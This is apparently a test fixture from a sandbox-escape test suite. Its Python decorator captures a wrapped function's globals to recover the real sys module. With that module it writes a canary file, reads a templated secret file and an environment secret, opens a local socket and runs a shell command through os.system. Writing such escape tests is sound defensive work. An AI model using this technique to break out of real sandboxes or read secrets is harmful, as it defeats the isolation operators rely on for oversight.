"""A decorator that captures the decorated function's internals.

Source: classic jail walks through decorators (the code, closure and
globals of the wrapped function, all dunder attributes).
Tries: read the code object and globals of the decorated function and take
sys from them.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

seen = []


def capture(function):
    seen.append(function.__globals__)
    return function


@capture
def jail_decorator_capture() -> dict:
    return claim_namespace(seen[0])


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
